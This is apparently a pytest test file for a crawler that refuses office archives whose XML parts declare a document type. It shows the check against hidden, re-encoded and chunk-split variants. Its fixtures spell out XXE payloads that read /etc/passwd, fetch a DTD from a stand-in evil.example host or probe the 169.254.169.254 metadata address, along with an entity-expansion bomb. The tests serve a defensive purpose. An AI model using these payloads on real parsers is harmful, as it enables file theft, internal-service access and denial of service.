"""A part of an office file that declares a document type is refused, however it is hidden."""

import io
import zipfile

import pytest

from crawler.documents.office_archive import OversizedArchive, office_kind

BOMB = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'
FILE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PLAIN = "<a>正文 &lt;!DOCTYPE&gt; <!-- <!DOCTYPE a> --></a>"
HEAD = '<?xml version="1.0" encoding="{}"?>'
LONG = "<!--" + "x" * 200_000 + "-->"

REFUSED = {
    "at once": BOMB.encode(),
    "a file": FILE.encode(),
    "after a declaration": (HEAD.format("UTF-8") + BOMB).encode(),
    "after a long comment": (HEAD.format("UTF-8") + LONG + BOMB).encode(),
    "after many comments": (HEAD.format("UTF-8") + "<!-- -->" * 30_000 + BOMB).encode(),
    "after an instruction": f"<?mso {'y' * 70_000}?>{BOMB}".encode(),
    "after blanks": (HEAD.format("UTF-8") + "\n" * 100_000 + BOMB).encode(),
    "across two chunks": (HEAD.format("UTF-8") + " " * (65_536 - 42) + BOMB).encode(),
    "behind a mark": BOMB.encode("utf-8-sig"),
    "in UTF-16": (HEAD.format("UTF-16") + LONG + BOMB).encode("utf-16"),
    "in UTF-16 without mark": (HEAD.format("UTF-16LE") + BOMB).encode("utf-16-le"),
    "in UTF-16, big end first": ("\ufeff" + BOMB).encode("utf-16-be"),
    "in UTF-32": ("\ufeff" + HEAD.format("UTF-32") + BOMB).encode("utf-32-le"),
    "in Latin": (HEAD.format("ISO-8859-1") + BOMB).encode(),
    "in GBK": (HEAD.format("GB18030") + BOMB).encode("gb18030"),
    "in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a [+ADwAIQ-ENTITY b "x"+AD4AXQA+ADw-a/+AD4-',
    "in EBCDIC": (HEAD.format("cp037") + BOMB).encode("cp037"),
    "of another version": f'<?xml version="1.1"?>{BOMB}'.encode(),
    "empty": b"<!DOCTYPE a><a/>",
    "parameters": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><a/>',
    "outside": b'<!DOCTYPE a SYSTEM "http://169.254.169.254/"><a/>',
}
READ = {
    "plain": PLAIN.encode(),
    "with a declaration": (HEAD.format("UTF-8") + LONG + PLAIN).encode(),
    "in UTF-16": (HEAD.format("UTF-16") + PLAIN).encode("utf-16"),
    "a doctype within an element": f"<a><![CDATA[{BOMB}]]></a>".encode(),
    "no XML": b"\x89PNG\r\n<!DOCTYPE a>",
    "nothing": b"",
    "broken": b"<a",
}


def packed(content: bytes, name: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", "<a/>")
        archive.writestr(name, content)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "name", ["word/styles.xml", "_rels/.rels", "word/other.XML", "word/main.bin", "x.vml"]
)
@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
def test_a_document_type_is_refused(content: bytes, name: str) -> None:
    with pytest.raises(OversizedArchive):
        office_kind(packed(content, name))


@pytest.mark.parametrize("content", READ.values(), ids=READ)
def test_a_file_without_one_is_read(content: bytes) -> None:
    assert office_kind(packed(content, "word/styles.xml")) == "docx"
